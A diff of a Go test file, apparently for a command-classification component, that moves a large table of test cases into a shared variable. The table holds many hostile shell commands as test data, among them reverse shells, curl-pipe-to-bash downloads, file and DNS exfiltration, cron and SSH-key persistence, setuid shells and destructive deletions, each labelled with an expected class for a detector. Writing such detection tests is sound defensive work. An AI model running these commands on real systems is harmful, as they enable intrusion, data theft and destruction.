@@ -7,140 +7,144 @@ import (
 	"github.com/auditchain/auditchain/parser"
 )
 
+// classifyCases are commands of every class (TestClassify; the hostile
+// padding test reads them again behind a megabyte of other words).
+var classifyCases = []struct {
+	cmd  string
+	want cmdClass
+}{
+	{"id 2>&1", classNone},
+	// rsync to a daemon's module or another host sends data out; a
+	// local copy or a fetch does not
+	{"/usr/bin/sudo -n /usr/bin/rsync -a /etc/shadow /srv/app/conf rsync://127.0.0.1:8730/drop/desk/", classExfilImpact},
+	{"rsync -az /var/www/ backup@192.0.2.4:/srv/backups/www/", classExfilImpact},
+	{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
+	{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
+	// ssh forwarding out of this host (-L, -D: a SOCKS pivot) reaches
+	// other hosts from it; -R opens a way back in: the channel
+	{"/usr/bin/ssh -f -N -D 127.0.0.1:1080 -o ExitOnForwardFailure=yes -i /home/app/.ssh/id_ed25519 deploy@127.0.0.1", classPivot},
+	{"ssh -L 8080:10.0.0.5:80 jump", classPivot},
+	{"setsid -f ssh -i /var/tmp/.k -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", classTunnel},
+	{"ssh -L 8080:10.0.0.5:80 -R 9000:127.0.0.1:22 jump", classTunnel},
+	{"uname -a", classNone},
+	{"cat /etc/passwd 2>&1", classNone},
+	{"pwd; ls -la /var/www/html", classNone},
+	{"date -u +%Y-%m-%dT%H:%M:%SZ", classNone},
+	{"cat /etc/shadow 2>&1", classSuspicious},
+	{"wget http://203.0.113.5/x -O /tmp/x", classSuspicious},
+	{"curl -s http://x/a.sh | bash", classSuspicious},
+	{"./kcurl -fsS -o kworkerds http://127.0.0.1:8000/kworkerds", classSuspicious}, // a renamed downloader: the URL says it
+	{"echo aWQ= | base64 -d | sh", classSuspicious},
+	{"nohup /tmp/.x &", classSuspicious},
+	{"chmod +x /dev/shm/k", classSuspicious},
+	{"python3 -c 'print(1)'", classSuspicious},
+	{"bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", classChannel},
+	{"nc -e /bin/sh 10.0.0.1 4444", classChannel},
+	{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
+	{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
+	{"crontab -", classPersistence},
+	{"git push git://127.0.0.1:9418/loot.git master", classExfilImpact}, // a repository pushed to another host: data out
+	{"git push -q origin main", classNone},                              // a named remote: the site's own deploy
+	{"sqlite3 /var/www/html/data/shop.db 'DROP TABLE orders; DROP TABLE customers;'", classExfilImpact},
+	{"sqlite3 /var/www/html/data/shop.db 'SELECT count(*) FROM orders'", classNone},
+	{"chmod 755 /etc/update-motd.d/60-sysinfo", classPersistence}, // made runnable where logins run it
+	{"chmod +x /etc/cron.daily/zz", classPersistence},
+	{"chmod 644 /etc/update-motd.d/60-sysinfo", classNone}, // made unrunnable: nothing installed
+	{"usermod -L alice", classExfilImpact},                 // the owner locked out (T1531)
+	{"chage -E 0 alice", classExfilImpact},
+	{"passwd -l bob", classExfilImpact},
+	{"userdel -r carol", classExfilImpact},
+	{"usermod -aG sudo mallory", classPersistence}, // a way back in
+	{"chage -l alice", classNone},
+	{"usermod -l newname old", classPersistence},                                                                     // a rename, not a lock
+	{"/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh /dev/shm/.r", classSuspicious}, // a shell escape, not staging
+	{"sudo find /var/www -name x -exec /bin/sh -p \\; -quit", classSuspicious},
+	{"tar czf /tmp/site.tgz /var/www/html", classExfilImpact},           // staging stays staging
+	{"echo '/tmp/.u &' >> /etc/update-motd.d/99-sys", classPersistence}, // runs as root at every ssh login
+	{"printf 'auth optional pam_exec.so /tmp/x' > /etc/pam.d/common-auth", classPersistence},
+	{"sed -i 's|^;auto_prepend_file =|auto_prepend_file = /tmp/p.php|' /etc/php/8.2/fpm/php.ini", classPersistence},
+	{"setcap cap_setuid+ep /usr/local/bin/python3-backup", classPersistence}, // like a setuid copy
+	{"echo 'sh /tmp/.b' | at now + 1 minute", classPersistence},
+	{"atq | cut -f1 | xargs -r atrm", classExfilImpact}, // the queued jobs taken away
+	{"at -d 4", classExfilImpact},
+	{"at -q d now", classPersistence}, // queue d, not -d
+	{"cp x.conf /etc/logrotate.d/shop", classPersistence},
+	{"getcap -r /usr/bin", classSuspicious}, // a search for a way to root (a cap_setuid copy), changes nothing
+	{"getcap /usr/bin/ping", classNone},
+	{"iptables -F; iptables -X", classExfilImpact},                  // defenses off: with the damage (T1562.004)
+	{"iptables -L -n", classNone},                                   // a look
+	{"setenforce 0", classExfilImpact},                              // T1562.001
+	{"chattr +i /etc/cron.d/sync", classExfilImpact},                // made undeletable (T1222.002)
+	{"lsattr /etc/cron.d/sync", classNone},                          // a look
+	{"ping -c 1 -p 726f6f74 127.0.0.1", classExfilImpact},           // data in ICMP payloads
+	{"ping -c 1 127.0.0.1", classNone},                              // a ping
+	{"cd /tmp/.s && python3 -m http.server 8000", classExfilImpact}, // files offered to a fetcher
+	{"tar czf - /var/www | ssh u@127.0.0.1 'cat > /tmp/w.tgz'", classExfilImpact},
+	{"for c in $(base32 -w 30 /tmp/d); do nslookup $c.x.lab 127.0.0.1; done", classExfilImpact},
+	{"dd if=/dev/zero of=/var/lib/shop/shop.db bs=1M count=4 conv=notrunc", classExfilImpact},
+	{"dd if=/dev/zero of=/tmp/x bs=1k count=1", classSuspicious}, // scratch in a temp dir, nothing destroyed
+	{"pkill -F /run/nginx.pid", classExfilImpact},                // a service taken down (T1489)     // one file asked about
+	{"cat /etc/update-motd.d/10-uname", classNone},
+	{"cp /bin/bash /tmp/.b; chmod u+s /tmp/.b", classPersistence}, // a setuid shell: a way back in as its owner
+	{"chmod 4755 /var/tmp/.x", classPersistence},
+	{"curl -s --unix-socket /var/run/docker.sock http://x/containers/json", classSuspicious},
+	{"crontab -r; rm -f /var/tmp/.kbc", classExfilImpact}, // the chain's cleanup
+	{"grep -r -i -E 'pass|token|secret' /srv/app/conf", classSuspicious},
+	{"grep -r -i vpn /srv/kb/data", classNone}, // a reader's search
+	{"timeout 3 socat -T 2 -u TCP:127.0.0.1:22 STDOUT", classScan},
+	{"tar czf - /srv | socat -u - TCP:10.0.0.1:9002", classExfilImpact},
+	{"printf 'auto_prepend_file=/srv/www/cache/.s.php\\n' > /srv/www/.user.ini", classPersistence},
+	{"echo 'AddType application/x-httpd-php .jpg' >> uploads/.htaccess", classPersistence},
+	{"setsid -f ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 127.0.0.1:18070:127.0.0.1:8070 u@127.0.0.1", classTunnel},
+	{"ssh -fNL 5432:db:5432 jump", classPivot},
+	{"ssh -D1080 -q u@h", classPivot},
+	{"./chisel client 10.0.0.1:8000 R:socks", classTunnel},
+	{"ssh -i k -oUserKnownHostsFile=/dev/null deploy@127.0.0.1 id; hostname", classLateral},
+	{"ssh -l deploy -n 127.0.0.1 uptime", classLateral},
+	{"crontab /tmp/c", classPersistence},
+	{"crontab -l", classNone},
+	{"(crontab -l; echo '* * * * * bash -i >& /dev/tcp/1.2.3.4/1 0>&1') | crontab -", classPersistence},
+	{"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", classPersistence},
+	{"useradd -m backdoor", classPersistence},
+	{"ssh -i /tmp/.k deploy@10.0.0.2 id", classLateral},
+	{"kubectl exec -it pod -- sh", classLateral},
+	{"kubectl -n prod exec pod -- id", classLateral},
+	{"curl -s -T /tmp/.d.tgz http://127.0.0.1:8000/up/d.tgz", classExfilImpact},
+	{"curl -s --data-binary @/etc/passwd http://127.0.0.1:8000/p", classExfilImpact},
+	{"tar czf /tmp/.d.tgz -C /var/www/html config.php", classExfilImpact},
+	{"shred -u -n 1 /var/www/html/data/customers.csv", classExfilImpact},
+	{"rm -rf /var/www/html", classExfilImpact},
+	// tidying its own scratch is no destruction when the command does
+	// something else; a removal alone is the cleanup (stage 8)
+	{"cd /dev/shm && tar xzf /var/backups/home.tgz home/deploy/.ssh/id_ed25519 && mv home/deploy/.ssh/id_ed25519 .k && rm -rf home && chmod 600 .k", classSuspicious},
+	{"rm -rf /tmp/.x", classExfilImpact},
+	{"cd /var/www/html && tar xzf /tmp/k.tgz && rm -rf *", classExfilImpact},
+	{"tar xzf /tmp/k.tgz -C /tmp/w && rm -rf /tmp/w/../../var/www", classExfilImpact},
+	{"openssl enc -aes-256-cbc -in db.sql -out db.enc", classExfilImpact},
+	// port scans: discovery before lateral movement (T1046)
+	{"nmap -sT -p 1-1024 10.0.0.0/24", classScan},
+	{"masscan 10.0.0.0/8 -p80,443", classScan},
+	{"nc -zv 10.0.0.5 1-1000", classScan},
+	{"/usr/bin/ncat -w1 -z 192.168.1.1 22", classScan},
+	{`for port in $(seq 1 1024); do timeout 1 bash -c "echo >/dev/tcp/10.0.0.2/$port" && echo $port; done`, classScan},
+	{"bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", classChannel}, // a fixed port: a reverse shell
+	// a relay told to send and quit, encoded DNS labels: data out
+	{"nc -q 1 203.0.113.7 9000", classExfilImpact},
+	{"nc -N 203.0.113.7 9000", classExfilImpact},
+	{"ncat --send-only 203.0.113.7 443", classExfilImpact},
+	{"socat -u FILE:/var/backups/db.sql TCP:203.0.113.7:9000", classExfilImpact},
+	{"nc -nv 10.0.0.1 4444", classNone}, // -n (no DNS), not -N
+	{"nslookup 4a6f686e2c446f652c35353531323334.x.example.net 203.0.113.53", classExfilImpact},
+	{"dig +short MZXW6YTBOI2DGNZVGQ2DIMZUGQ4TSNBUGU4DKNRXHA4DIMZQ.t.example.org", classExfilImpact},
+	{"dig +short example.com", classNone},
+	{"dig _acme-challenge.shop.example.com TXT", classNone},
+	// files named for secrets
+	{"cat /srv/app/.env", classSuspicious},
+	{"cat config/secrets.yml", classSuspicious},
+}
+
 func TestClassify(t *testing.T) {
-	tests := []struct {
-		cmd  string
-		want cmdClass
-	}{
-		{"id 2>&1", classNone},
-		// rsync to a daemon's module or another host sends data out; a
-		// local copy or a fetch does not
-		{"/usr/bin/sudo -n /usr/bin/rsync -a /etc/shadow /srv/app/conf rsync://127.0.0.1:8730/drop/desk/", classExfilImpact},
-		{"rsync -az /var/www/ backup@192.0.2.4:/srv/backups/www/", classExfilImpact},
-		{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
-		{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
-		// ssh forwarding out of this host (-L, -D: a SOCKS pivot) reaches
-		// other hosts from it; -R opens a way back in: the channel
-		{"/usr/bin/ssh -f -N -D 127.0.0.1:1080 -o ExitOnForwardFailure=yes -i /home/app/.ssh/id_ed25519 deploy@127.0.0.1", classPivot},
-		{"ssh -L 8080:10.0.0.5:80 jump", classPivot},
-		{"setsid -f ssh -i /var/tmp/.k -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", classTunnel},
-		{"ssh -L 8080:10.0.0.5:80 -R 9000:127.0.0.1:22 jump", classTunnel},
-		{"uname -a", classNone},
-		{"cat /etc/passwd 2>&1", classNone},
-		{"pwd; ls -la /var/www/html", classNone},
-		{"date -u +%Y-%m-%dT%H:%M:%SZ", classNone},
-		{"cat /etc/shadow 2>&1", classSuspicious},
-		{"wget http://203.0.113.5/x -O /tmp/x", classSuspicious},
-		{"curl -s http://x/a.sh | bash", classSuspicious},
-		{"./kcurl -fsS -o kworkerds http://127.0.0.1:8000/kworkerds", classSuspicious}, // a renamed downloader: the URL says it
-		{"echo aWQ= | base64 -d | sh", classSuspicious},
-		{"nohup /tmp/.x &", classSuspicious},
-		{"chmod +x /dev/shm/k", classSuspicious},
-		{"python3 -c 'print(1)'", classSuspicious},
-		{"bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", classChannel},
-		{"nc -e /bin/sh 10.0.0.1 4444", classChannel},
-		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
-		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
-		{"crontab -", classPersistence},
-		{"git push git://127.0.0.1:9418/loot.git master", classExfilImpact}, // a repository pushed to another host: data out
-		{"git push -q origin main", classNone},                              // a named remote: the site's own deploy
-		{"sqlite3 /var/www/html/data/shop.db 'DROP TABLE orders; DROP TABLE customers;'", classExfilImpact},
-		{"sqlite3 /var/www/html/data/shop.db 'SELECT count(*) FROM orders'", classNone},
-		{"chmod 755 /etc/update-motd.d/60-sysinfo", classPersistence}, // made runnable where logins run it
-		{"chmod +x /etc/cron.daily/zz", classPersistence},
-		{"chmod 644 /etc/update-motd.d/60-sysinfo", classNone}, // made unrunnable: nothing installed
-		{"usermod -L alice", classExfilImpact},                 // the owner locked out (T1531)
-		{"chage -E 0 alice", classExfilImpact},
-		{"passwd -l bob", classExfilImpact},
-		{"userdel -r carol", classExfilImpact},
-		{"usermod -aG sudo mallory", classPersistence}, // a way back in
-		{"chage -l alice", classNone},
-		{"usermod -l newname old", classPersistence},                                                                     // a rename, not a lock
-		{"/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh /dev/shm/.r", classSuspicious}, // a shell escape, not staging
-		{"sudo find /var/www -name x -exec /bin/sh -p \\; -quit", classSuspicious},
-		{"tar czf /tmp/site.tgz /var/www/html", classExfilImpact},           // staging stays staging
-		{"echo '/tmp/.u &' >> /etc/update-motd.d/99-sys", classPersistence}, // runs as root at every ssh login
-		{"printf 'auth optional pam_exec.so /tmp/x' > /etc/pam.d/common-auth", classPersistence},
-		{"sed -i 's|^;auto_prepend_file =|auto_prepend_file = /tmp/p.php|' /etc/php/8.2/fpm/php.ini", classPersistence},
-		{"setcap cap_setuid+ep /usr/local/bin/python3-backup", classPersistence}, // like a setuid copy
-		{"echo 'sh /tmp/.b' | at now + 1 minute", classPersistence},
-		{"atq | cut -f1 | xargs -r atrm", classExfilImpact}, // the queued jobs taken away
-		{"at -d 4", classExfilImpact},
-		{"at -q d now", classPersistence}, // queue d, not -d
-		{"cp x.conf /etc/logrotate.d/shop", classPersistence},
-		{"getcap -r /usr/bin", classSuspicious}, // a search for a way to root (a cap_setuid copy), changes nothing
-		{"getcap /usr/bin/ping", classNone},
-		{"iptables -F; iptables -X", classExfilImpact},                  // defenses off: with the damage (T1562.004)
-		{"iptables -L -n", classNone},                                   // a look
-		{"setenforce 0", classExfilImpact},                              // T1562.001
-		{"chattr +i /etc/cron.d/sync", classExfilImpact},                // made undeletable (T1222.002)
-		{"lsattr /etc/cron.d/sync", classNone},                          // a look
-		{"ping -c 1 -p 726f6f74 127.0.0.1", classExfilImpact},           // data in ICMP payloads
-		{"ping -c 1 127.0.0.1", classNone},                              // a ping
-		{"cd /tmp/.s && python3 -m http.server 8000", classExfilImpact}, // files offered to a fetcher
-		{"tar czf - /var/www | ssh u@127.0.0.1 'cat > /tmp/w.tgz'", classExfilImpact},
-		{"for c in $(base32 -w 30 /tmp/d); do nslookup $c.x.lab 127.0.0.1; done", classExfilImpact},
-		{"dd if=/dev/zero of=/var/lib/shop/shop.db bs=1M count=4 conv=notrunc", classExfilImpact},
-		{"dd if=/dev/zero of=/tmp/x bs=1k count=1", classSuspicious}, // scratch in a temp dir, nothing destroyed
-		{"pkill -F /run/nginx.pid", classExfilImpact},                // a service taken down (T1489)     // one file asked about
-		{"cat /etc/update-motd.d/10-uname", classNone},
-		{"cp /bin/bash /tmp/.b; chmod u+s /tmp/.b", classPersistence}, // a setuid shell: a way back in as its owner
-		{"chmod 4755 /var/tmp/.x", classPersistence},
-		{"curl -s --unix-socket /var/run/docker.sock http://x/containers/json", classSuspicious},
-		{"crontab -r; rm -f /var/tmp/.kbc", classExfilImpact}, // the chain's cleanup
-		{"grep -r -i -E 'pass|token|secret' /srv/app/conf", classSuspicious},
-		{"grep -r -i vpn /srv/kb/data", classNone}, // a reader's search
-		{"timeout 3 socat -T 2 -u TCP:127.0.0.1:22 STDOUT", classScan},
-		{"tar czf - /srv | socat -u - TCP:10.0.0.1:9002", classExfilImpact},
-		{"printf 'auto_prepend_file=/srv/www/cache/.s.php\\n' > /srv/www/.user.ini", classPersistence},
-		{"echo 'AddType application/x-httpd-php .jpg' >> uploads/.htaccess", classPersistence},
-		{"setsid -f ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 127.0.0.1:18070:127.0.0.1:8070 u@127.0.0.1", classTunnel},
-		{"ssh -fNL 5432:db:5432 jump", classPivot},
-		{"ssh -D1080 -q u@h", classPivot},
-		{"./chisel client 10.0.0.1:8000 R:socks", classTunnel},
-		{"ssh -i k -oUserKnownHostsFile=/dev/null deploy@127.0.0.1 id; hostname", classLateral},
-		{"ssh -l deploy -n 127.0.0.1 uptime", classLateral},
-		{"crontab /tmp/c", classPersistence},
-		{"crontab -l", classNone},
-		{"(crontab -l; echo '* * * * * bash -i >& /dev/tcp/1.2.3.4/1 0>&1') | crontab -", classPersistence},
-		{"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", classPersistence},
-		{"useradd -m backdoor", classPersistence},
-		{"ssh -i /tmp/.k deploy@10.0.0.2 id", classLateral},
-		{"kubectl exec -it pod -- sh", classLateral},
-		{"kubectl -n prod exec pod -- id", classLateral},
-		{"curl -s -T /tmp/.d.tgz http://127.0.0.1:8000/up/d.tgz", classExfilImpact},
-		{"curl -s --data-binary @/etc/passwd http://127.0.0.1:8000/p", classExfilImpact},
-		{"tar czf /tmp/.d.tgz -C /var/www/html config.php", classExfilImpact},
-		{"shred -u -n 1 /var/www/html/data/customers.csv", classExfilImpact},
-		{"rm -rf /var/www/html", classExfilImpact},
-		// tidying its own scratch is no destruction when the command does
-		// something else; a removal alone is the cleanup (stage 8)
-		{"cd /dev/shm && tar xzf /var/backups/home.tgz home/deploy/.ssh/id_ed25519 && mv home/deploy/.ssh/id_ed25519 .k && rm -rf home && chmod 600 .k", classSuspicious},
-		{"rm -rf /tmp/.x", classExfilImpact},
-		{"cd /var/www/html && tar xzf /tmp/k.tgz && rm -rf *", classExfilImpact},
-		{"tar xzf /tmp/k.tgz -C /tmp/w && rm -rf /tmp/w/../../var/www", classExfilImpact},
-		{"openssl enc -aes-256-cbc -in db.sql -out db.enc", classExfilImpact},
-		// port scans: discovery before lateral movement (T1046)
-		{"nmap -sT -p 1-1024 10.0.0.0/24", classScan},
-		{"masscan 10.0.0.0/8 -p80,443", classScan},
-		{"nc -zv 10.0.0.5 1-1000", classScan},
-		{"/usr/bin/ncat -w1 -z 192.168.1.1 22", classScan},
-		{`for port in $(seq 1 1024); do timeout 1 bash -c "echo >/dev/tcp/10.0.0.2/$port" && echo $port; done`, classScan},
-		{"bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", classChannel}, // a fixed port: a reverse shell
-		// a relay told to send and quit, encoded DNS labels: data out
-		{"nc -q 1 203.0.113.7 9000", classExfilImpact},
-		{"nc -N 203.0.113.7 9000", classExfilImpact},
-		{"ncat --send-only 203.0.113.7 443", classExfilImpact},
-		{"socat -u FILE:/var/backups/db.sql TCP:203.0.113.7:9000", classExfilImpact},
-		{"nc -nv 10.0.0.1 4444", classNone}, // -n (no DNS), not -N
-		{"nslookup 4a6f686e2c446f652c35353531323334.x.example.net 203.0.113.53", classExfilImpact},
-		{"dig +short MZXW6YTBOI2DGNZVGQ2DIMZUGQ4TSNBUGU4DKNRXHA4DIMZQ.t.example.org", classExfilImpact},
-		{"dig +short example.com", classNone},
-		{"dig _acme-challenge.shop.example.com TXT", classNone},
-		// files named for secrets
-		{"cat /srv/app/.env", classSuspicious},
-		{"cat config/secrets.yml", classSuspicious},
-	}
+	tests := classifyCases
 	for _, tt := range tests {
 		if got := classify(tt.cmd); got != tt.want {
 			t.Errorf("classify(%q) = %v, want %v", tt.cmd, got, tt.want)
